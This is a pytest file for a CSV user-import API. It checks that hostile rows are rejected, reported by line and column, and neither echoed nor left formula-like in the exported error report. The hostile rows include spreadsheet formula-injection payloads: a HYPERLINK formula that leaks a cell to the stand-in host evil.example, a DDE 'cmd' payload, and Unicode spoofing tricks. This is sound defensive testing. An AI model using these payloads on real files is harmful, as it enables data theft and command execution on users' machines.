"""A long file of good, broken and hostile rows: each bad one is told once, by line, and does no harm."""

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass, field
from uuid import uuid4

import pytest

from tests.api.http.company import Company, Json, Person, succeeded
from tests.api.http.house import PATIENCE
from tests.api.http.importing import over, send

HEADER = "email,name,roles"
SLOWEST = 50.0
"""Rows per second that a machine does which is busy with other tests."""

_HOSTILE: tuple[tuple[str, str, str], ...] = (
    ("{me},\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1)\",buyer", "name", "FormulaRefused"),
    ("@SUM(1+1)*cmd|' /C calc'!A0,Canary,buyer", "email", "FormulaRefused"),
    ("{me},\u00a0+1+1,buyer", "name", "FormulaRefused"),
    ("{me},\uff1d1+1 Canary,buyer", "name", "FormulaRefused"),
    ("{me},Canary\u202egpj.exe,buyer", "name", "InvalidValue"),
    ("{me},\"Canary\nthe Second\",buyer", "name", "InvalidValue"),
    ("{me},Canary\x1b[31m,buyer", "name", "InvalidValue"),
    ("canary@ex\u00e4mple.com,Canary,buyer", "email", "InvalidValue"),
    ("{me},Canary,\u0455upplier", "roles", "InvalidValue"),
    ("{me},Canary", "", "RaggedRow"),
    ("first-{mark}@example.com,Canary,buyer", "email", "RepeatedAddress"),
)  # fmt: skip
_GOOD = (
    "{me},J\u00fcrgen M\u00fc\u00df,buyer",
    '{me},"O\'Brien, ""Bo""",requester;buyer',
    "{me},\u0645\u0631\u064a\u0645,warehouse",
    "{me},\U0001f469\u200d\U0001f4bb e\u0301,buyer",
)
EVERY = 5
"""Each so manieth row is a bad one."""


@dataclass
class File:
    """A file of `rows` records, and what is wrong with which of its lines."""

    rows: int
    mark: str = field(default_factory=lambda: uuid4().hex[:10])
    wrong: list[tuple[int, str, str]] = field(default_factory=list)

    def pieces(self) -> Iterator[bytes]:
        """As it is sent."""
        line = 2
        yield f"{HEADER}\r\nfirst-{self.mark}@example.com,First,buyer\r\n".encode()
        for number in range(1, self.rows):
            line += 1
            kinds = _HOSTILE if number % EVERY == 0 else ()
            row, column, error = (
                kinds[number // EVERY % len(kinds)]
                if kinds
                else (_GOOD[number % len(_GOOD)], "", "")
            )
            if error:
                self.wrong.append((line, column, error))
            text = row.format(me=f"p{number}-{self.mark}@example.com", mark=self.mark)
            line += text.count("\n")
            yield f"{text}\r\n".encode()


def listed(by: Person, path: str) -> Iterator[Json]:
    """All problems, page by page."""
    page = by.see(path, limit=200)
    yield from page["items"]
    while "nextCursor" in page:
        page = by.see(path, limit=200, cursor=page["nextCursor"])
        yield from page["items"]


@pytest.mark.parametrize(
    "rows",
    [
        pytest.param(500),
        pytest.param(10_000, marks=pytest.mark.long),
        pytest.param(100_000, marks=pytest.mark.long),
    ],
)
def test_each_bad_row_is_told_by_its_line_and_the_good_ones_are_in(
    company: Company, rows: int
) -> None:
    admin, file = company.admin, File(rows)
    job = over(admin, succeeded(send(admin, file.pieces())), PATIENCE + rows / SLOWEST)
    bad = len(file.wrong)
    assert bad == (rows - 1) // EVERY
    assert job["status"] == "CompletedWithErrors"
    assert job["rows"] == {
        "total": rows,
        "done": rows,
        "imported": rows - bad,
        "skipped": 0,
        "failed": bad,
    }
    path = f"/v1/jobs/{job['jobId']}/errors"
    told = list(listed(admin, path))
    assert [(each["line"], each["column"], each["error"]) for each in told] == file.wrong
    text = admin.get(path, {"Accept": "text/csv"}).text
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert [(int(row[0]), row[1], row[2]) for row in table[1:]] == file.wrong
    assert not [cell for row in table for cell in row if cell.startswith(tuple("=+-@\uff1d\t\r\n"))]
    for said in (text, str(told)):
        for personal in ("anary", file.mark, "evil", "cmd"):
            assert personal not in said
